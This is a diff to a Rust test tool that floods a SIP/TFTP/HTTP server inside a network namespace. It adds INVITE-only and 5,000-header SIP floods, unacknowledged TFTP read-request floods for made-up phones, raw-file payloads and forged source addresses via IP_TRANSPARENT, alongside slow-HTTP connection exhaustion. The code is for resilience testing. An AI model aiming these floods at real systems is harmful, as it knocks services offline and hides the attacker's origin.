@@ -1,12 +1,19 @@
-//! `flood sip|tftp HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...` and
+//! `flood KIND HOST:PORT SECONDS PACKETS_PER_SECOND SOURCE_IP...` and
 //! `flood slow-http HOST:PORT SECONDS CONNECTIONS_PER_SOURCE SOURCE_IP...`: what a flooding
 //! attacker does, for tests in a network namespace only (it stops by itself and sends
 //! nowhere but HOST:PORT). For the datagram floods, one socket per source address, taking
-//! turns, paced to the total rate:
+//! turns, paced to the total rate (the first packet goes at once):
 //! - `sip`: REGISTER, OPTIONS and INVITE without credentials, for made-up users, each with a
 //!   fresh Call-ID and branch (what a scanner sends, and what a server must parse);
-//! - `tftp`: read requests for a phone's file that are never acknowledged (every one starts
-//!   a transfer the server retransmits).
+//! - `invite`: INVITEs only, likewise;
+//! - `big-sip`: OPTIONS with 5,000 header lines (about 60 KB), the parsing-cost attack;
+//! - `tftp`: read requests for the files of 5,000 made-up phones, never acknowledged (every
+//!   one starts a transfer the server retransmits, or records an unknown phone);
+//! - `tftp:NAME`: read requests for NAME, never acknowledged;
+//! - `file:PATH`: the bytes of PATH, as they are.
+//!
+//! A SOURCE may name a port too (`192.168.77.11:5099`), and may be an address that is not
+//! the host's own: a forged source (IP_TRANSPARENT: run as root).
 //!
 //! Replies are read and counted but never answered. Prints `sent N received M rate R/s`.
 //!
@@ -18,8 +25,7 @@
 use std::net::{IpAddr, SocketAddr, UdpSocket};
 use std::time::{Duration, Instant};
 
-fn sip(n: u64, from: SocketAddr, to: SocketAddr) -> Vec<u8> {
-    let method = ["REGISTER", "OPTIONS", "INVITE"][(n % 3) as usize];
+fn sip(method: &str, n: u64, from: SocketAddr, to: SocketAddr, extra: &str) -> Vec<u8> {
     let user = 100 + n % 900;
     let host = to.ip();
     format!(
@@ -31,17 +37,41 @@ fn sip(n: u64, from: SocketAddr, to: SocketAddr) -> Vec<u8> {
          Call-ID: flood-{n}@{from}\r\n\
          CSeq: 1 {method}\r\n\
          Contact: <sip:{user}@{from}>\r\n\
-         User-Agent: friendly-scanner\r\n\
+         User-Agent: friendly-scanner\r\n{extra}\
          Content-Length: 0\r\n\r\n"
     )
     .into_bytes()
 }
 
-fn tftp(n: u64) -> Vec<u8> {
-    let mut p = vec![0, 1];
-    p.extend_from_slice(format!("SEP{:012X}.cnf.xml", 0x0011_2233_0000u64 + n % 1000).as_bytes());
-    p.extend_from_slice(b"\0octet\0");
-    p
+fn rrq(name: &str) -> Vec<u8> {
+    [&[0, 1], name.as_bytes(), b"\0octet\0"].concat()
+}
+
+/// The `n`th packet of a flood of `kind`.
+fn packet(kind: &str, n: u64, from: SocketAddr, to: SocketAddr) -> Vec<u8> {
+    match kind {
+        "sip" => sip(
+            ["REGISTER", "OPTIONS", "INVITE"][(n % 3) as usize],
+            n,
+            from,
+            to,
+            "",
+        ),
+        "invite" => sip("INVITE", n, from, to, ""),
+        "big-sip" => {
+            let extra: String = (0..5000).map(|i| format!("X-{i}: v\r\n")).collect();
+            sip("OPTIONS", n, from, to, &extra)
+        }
+        "tftp" => rrq(&format!(
+            "SEP{:012X}.cnf.xml",
+            0x0011_2233_0000u64 + n % 5000
+        )),
+        other => match (other.strip_prefix("tftp:"), other.strip_prefix("file:")) {
+            (Some(name), _) => rrq(name),
+            (_, Some(path)) => std::fs::read(path).expect("the packet's file"),
+            _ => panic!("no flood of kind {other}"),
+        },
+    }
 }
 
 fn main() {
@@ -51,7 +81,14 @@ fn main() {
     let to: SocketAddr = args.get(1).and_then(|a| a.parse().ok()).expect(usage);
     let seconds: f64 = args.get(2).and_then(|a| a.parse().ok()).expect(usage);
     let pps: f64 = args.get(3).and_then(|a| a.parse().ok()).expect(usage);
-    let sources: Vec<IpAddr> = args[4..].iter().map(|a| a.parse().expect(usage)).collect();
+    let sources: Vec<SocketAddr> = args[4..]
+        .iter()
+        .map(|a| {
+            a.parse::<SocketAddr>()
+                .or_else(|_| a.parse::<IpAddr>().map(|ip| SocketAddr::new(ip, 0)))
+                .expect(usage)
+        })
+        .collect();
     assert!(!sources.is_empty(), "{usage}");
     if kind == "slow-http" {
         return slow_http(to, seconds, pps as usize, &sources);
@@ -59,7 +96,7 @@ fn main() {
     let socks: Vec<(UdpSocket, SocketAddr)> = sources
         .iter()
         .map(|ip| {
-            let s = UdpSocket::bind((*ip, 0)).expect("a socket on the source address");
+            let s = e2e::netns::udp_from(*ip).expect("a socket on the source address");
             s.set_nonblocking(true).expect("non-blocking");
             let local = s.local_addr().expect("bound");
             (s, local)
@@ -75,16 +112,11 @@ fn main() {
             break;
         }
         // Send what the rate allows by now, then read what came back.
-        let due = (now.duration_since(start).as_secs_f64() * pps) as u64;
+        let due = (now.duration_since(start).as_secs_f64() * pps) as u64 + 1;
         while sent < due {
             let (sock, local) = &socks[(sent % socks.len() as u64) as usize];
-            let packet = match kind.as_str() {
-                "sip" => sip(sent, *local, to),
-                "tftp" => tftp(sent),
-                _ => panic!("{usage}"),
-            };
             // A full send buffer drops the packet, as a flood would lose it anyway.
-            let _ = sock.send_to(&packet, to);
+            let _ = sock.send_to(&packet(&kind, sent, *local, to), to);
             sent += 1;
         }
         for (sock, _) in &socks {
@@ -103,7 +135,7 @@ fn main() {
 
 /// Opens `each` trickling uploads from every source; prints how many were still open after
 /// `seconds`.
-fn slow_http(to: SocketAddr, seconds: f64, each: usize, sources: &[IpAddr]) {
+fn slow_http(to: SocketAddr, seconds: f64, each: usize, sources: &[SocketAddr]) {
     use tokio::io::{AsyncReadExt, AsyncWriteExt};
     let rt = tokio::runtime::Builder::new_current_thread()
         .enable_all()
@@ -113,7 +145,7 @@ fn slow_http(to: SocketAddr, seconds: f64, each: usize, sources: &[IpAddr]) {
         let mut tasks = Vec::new();
         for ip in sources {
             for _ in 0..each {
-                let ip = *ip;
+                let ip = ip.ip();
                 tasks.push(tokio::spawn(async move {
                     let sock = tokio::net::TcpSocket::new_v4().ok()?;
                     sock.bind((ip, 0).into()).ok()?;
